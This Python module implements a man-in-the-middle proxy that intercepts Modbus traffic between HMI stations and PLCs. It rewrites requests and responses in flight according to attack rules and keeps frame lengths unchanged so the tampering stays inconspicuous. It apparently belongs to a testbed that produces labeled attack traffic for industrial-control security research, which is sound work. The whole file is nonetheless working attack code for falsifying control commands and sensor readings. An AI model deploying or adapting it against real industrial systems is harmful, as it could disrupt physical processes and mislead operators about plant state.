"""Man-in-the-middle rewriting proxy.

A dispatcher opens one listener per PLC channel; each accepted HMI
connection gets a matching upstream connection to the real PLC and two
relay tasks, one per direction, sharing the channel state. Frames matching
attack rules are rewritten in flight; everything else is forwarded
byte-identical (the unrelated-packet filter). Rewrites never change frame
length and nothing is dropped, injected, or reordered.

Response rewrites are armed by their request: a RESPONSE change whose query
matches on REQUEST criteria stores its rule under the request TID, and the
response carrying that TID on the same channel gets the rewrite. In
half-duplex mode the PLC-to-HMI direction passes through verbatim and only
requests are touched.

Tool faults (a rule that does not fit the frame it matched) fail open: the
original bytes are forwarded so the traffic stays clean, and the fault is
counted on the attacker console only.
"""

from __future__ import annotations

import asyncio
import logging
import time
from collections import OrderedDict
from dataclasses import dataclass, field
from typing import Callable, Dict, List, Optional, Tuple

from . import capture as cap
from . import iaml
from . import modbus as mb

log = logging.getLogger(__name__)

DEFAULT_LISTEN_BASE = 25020
TID_ARMED_LIMIT = 64
DIAL_ATTEMPTS = 5
DIAL_BACKOFF = 0.1


@dataclass(frozen=True)
class ChannelConfig:
    rtu_id: str
    listen_host: str
    listen_port: int
    upstream_host: str
    upstream_port: int
    identity: Optional[str] = None

    @property
    def plc_identity(self) -> str:
        # what PLC_IP criteria match against: an explicit name when the
        # deployment assigns one, else the upstream address
        return self.identity or f"{self.upstream_host}:{self.upstream_port}"


@dataclass
class ChannelState:
    tid_armed: "OrderedDict[int, iaml.AttackRule]" = field(default_factory=OrderedDict)
    health: str = "idle"
    counters: Dict[str, int] = field(default_factory=lambda: {
        "requests": 0,
        "responses": 0,
        "rewritten_requests": 0,
        "rewritten_responses": 0,
        "armed": 0,
        "evicted": 0,
        "faults": 0,
        "passthrough_bytes": 0,
    })

    def arm(self, tid: int, rule: iaml.AttackRule) -> None:
        if tid in self.tid_armed:
            del self.tid_armed[tid]
        self.tid_armed[tid] = rule
        self.counters["armed"] += 1
        while len(self.tid_armed) > TID_ARMED_LIMIT:
            self.tid_armed.popitem(last=False)
            self.counters["evicted"] += 1


def channels_for_fleet(endpoints: Dict[str, "object"],
                       listen_base: int = DEFAULT_LISTEN_BASE,
                       listen_host: str = "127.0.0.1") -> List[ChannelConfig]:
    """One proxy channel per fleet endpoint, listen port = base + RTU index."""
    out = []
    for rtu_id, pc in sorted(endpoints.items()):
        index = int(rtu_id.split("_")[1])
        out.append(ChannelConfig(
            rtu_id=rtu_id,
            listen_host=listen_host,
            listen_port=listen_base + index,
            upstream_host=pc.host,
            upstream_port=pc.port,
            identity=rtu_id,
        ))
    return out


class AttackProxy:
    """Dispatcher plus per-channel relay pairs over shared stage state."""

    def __init__(self, channels: List[ChannelConfig],
                 rules: Optional[List[iaml.AttackRule]] = None, *,
                 half_duplex: bool = False,
                 windows: Optional[List[Tuple[float, float]]] = None,
                 clock: Optional[Callable[[], float]] = None,
                 tap: Optional[Callable[[cap.TrafficRecord], None]] = None):
        self.channels = channels
        self.rules = rules or []
        self.half_duplex = half_duplex
        self.windows = windows
        self.clock = clock or time.monotonic
        self.tap = tap
        self.stages = iaml.StageState()
        self.state: Dict[str, ChannelState] = {
            c.rtu_id: ChannelState() for c in channels}
        self._servers: List[asyncio.base_events.Server] = []
        self._bound: Dict[str, int] = {}

    # --- lifecycle ---------------------------------------------------------

    async def start(self) -> None:
        for channel in self.channels:
            server = await asyncio.start_server(
                lambda r, w, c=channel: self._handle_client(c, r, w),
                host=channel.listen_host, port=channel.listen_port)
            self._servers.append(server)
            self._bound[channel.rtu_id] = server.sockets[0].getsockname()[1]

    async def stop(self) -> None:
        for server in self._servers:
            server.close()
        for server in self._servers:
            await server.wait_closed()
        self._servers.clear()

    def bound_port(self, rtu_id: str) -> int:
        return self._bound[rtu_id]

    def status(self) -> dict:
        return {
            "half_duplex": self.half_duplex,
            "global_stage": self.stages.global_stage,
            "local_stages": dict(self.stages.local_stage),
            "channels": {
                rtu: {"health": st.health, "armed_now": len(st.tid_armed), **st.counters}
                for rtu, st in self.state.items()
            },
        }

    # --- connection handling -----------------------------------------------

    async def _dial(self, channel: ChannelConfig):
        delay = DIAL_BACKOFF
        for attempt in range(DIAL_ATTEMPTS):
            try:
                return await asyncio.open_connection(
                    channel.upstream_host, channel.upstream_port)
            except OSError:
                self.state[channel.rtu_id].health = "dialing"
                if attempt == DIAL_ATTEMPTS - 1:
                    raise
                await asyncio.sleep(delay)
                delay *= 2

    async def _handle_client(self, channel: ChannelConfig,
                             creader: asyncio.StreamReader,
                             cwriter: asyncio.StreamWriter) -> None:
        state = self.state[channel.rtu_id]
        try:
            sreader, swriter = await self._dial(channel)
        except OSError as e:
            log.warning("%s: upstream unreachable: %s", channel.rtu_id, e)
            state.health = "down"
            cwriter.close()
            return
        state.health = "connected"
        up = asyncio.create_task(
            self._relay(channel, state, creader, swriter, request_side=True))
        down = asyncio.create_task(
            self._relay(channel, state, sreader, cwriter, request_side=False))
        try:
            await asyncio.wait({up, down}, return_when=asyncio.FIRST_COMPLETED)
        finally:
            for task in (up, down):
                task.cancel()
            for writer in (cwriter, swriter):
                try:
                    writer.close()
                except Exception:
                    pass
            state.health = "idle"

    async def _relay(self, channel: ChannelConfig, state: ChannelState,
                     reader: asyncio.StreamReader, writer: asyncio.StreamWriter,
                     request_side: bool) -> None:
        buffer = b""
        raw_mode = False
        try:
            while True:
                data = await reader.read(4096)
                if not data:
                    break
                if raw_mode:
                    state.counters["passthrough_bytes"] += len(data)
                    writer.write(data)
                    await writer.drain()
                    continue
                buffer += data
                try:
                    pairs, buffer = mb.iter_frames(buffer)
                except mb.FramingError as e:
                    # garbage on the wire: stop interpreting, keep relaying
                    log.warning("%s: %s; relay continues verbatim", channel.rtu_id, e)
                    state.counters["faults"] += 1
                    state.counters["passthrough_bytes"] += len(buffer)
                    writer.write(buffer)
                    buffer = b""
                    raw_mode = True
                    await writer.drain()
                    continue
                for frame, raw in pairs:
                    if request_side:
                        out = self._process_request(channel, state, frame, raw)
                    else:
                        out = self._process_response(channel, state, frame, raw)
                    writer.write(out)
                await writer.drain()
        except (ConnectionResetError, BrokenPipeError, asyncio.CancelledError):
            pass

    # --- frame processing --------------------------------------------------

    def _in_window(self, t: float) -> bool:
        if self.windows is None:
            return True
        return any(start <= t <= end for start, end in self.windows)

    def _process_request(self, channel: ChannelConfig, state: ChannelState,
                         frame: mb.ModbusFrame, raw: bytes) -> bytes:
        t = self.clock()
        state.counters["requests"] += 1
        out_frame, out_raw, rewritten = frame, raw, False
        meta: Optional[iaml.PacketMeta] = None
        try:
            meta = iaml.packet_meta(frame, iaml.REQUEST, channel.plc_identity)
        except mb.ClassifyError:
            pass  # unrelated packet, forwarded untouched
        if meta is not None and self._in_window(t):
            # arming sees the original request under the pre-rewrite stages
            for rule in self.rules:
                if (rule.packet_to_change == iaml.RESPONSE
                        and rule.match_type == iaml.REQUEST
                        and iaml.match(rule, meta, self.stages)):
                    state.arm(frame.tid, rule)
                    break
            rule = iaml.first_match(self.rules, iaml.REQUEST, meta, self.stages)
            if rule is not None:
                try:
                    out_frame, self.stages = iaml.apply(rule, frame, meta, self.stages)
                    out_raw = mb.encode_frame(out_frame)
                    rewritten = True
                    state.counters["rewritten_requests"] += 1
                except (iaml.RuleError, ValueError) as e:
                    log.error("%s: request rule %d failed open: %s",
                              channel.rtu_id, rule.index, e)
                    state.counters["faults"] += 1
                    out_frame, out_raw, rewritten = frame, raw, False
        self._tap(t, cap.SEGMENT_HMI, channel.rtu_id, cap.QUERY, frame, raw, False)
        self._tap(t, cap.SEGMENT_PLC, channel.rtu_id, cap.QUERY, out_frame, out_raw,
                  rewritten)
        return out_raw

    def _process_response(self, channel: ChannelConfig, state: ChannelState,
                          frame: mb.ModbusFrame, raw: bytes) -> bytes:
        t = self.clock()
        state.counters["responses"] += 1
        out_frame, out_raw, rewritten = frame, raw, False
        if not self.half_duplex:
            rule = state.tid_armed.pop(frame.tid, None)
            meta: Optional[iaml.PacketMeta] = None
            try:
                meta = iaml.packet_meta(frame, iaml.RESPONSE, channel.plc_identity)
            except mb.ClassifyError:
                pass
            if rule is None and meta is not None and self._in_window(t):
                rule = iaml.first_match(self.rules, iaml.RESPONSE, meta, self.stages)
            if rule is not None and meta is not None:
                try:
                    out_frame, self.stages = iaml.apply(rule, frame, meta, self.stages)
                    out_raw = mb.encode_frame(out_frame)
                    rewritten = True
                    state.counters["rewritten_responses"] += 1
                except (iaml.RuleError, ValueError) as e:
                    log.error("%s: response rule %d failed open: %s",
                              channel.rtu_id, rule.index, e)
                    state.counters["faults"] += 1
                    out_frame, out_raw, rewritten = frame, raw, False
        self._tap(t, cap.SEGMENT_PLC, channel.rtu_id, cap.RESPONSE, frame, raw, False)
        self._tap(t, cap.SEGMENT_HMI, channel.rtu_id, cap.RESPONSE, out_frame, out_raw,
                  rewritten)
        return out_raw

    def _tap(self, t: float, segment: str, rtu_id: str, direction: str,
             frame: mb.ModbusFrame, raw: bytes, rewritten: bool) -> None:
        if self.tap is None:
            return
        self.tap(cap.record_from_frame(t, segment, rtu_id, direction, frame, raw,
                                       rewritten))
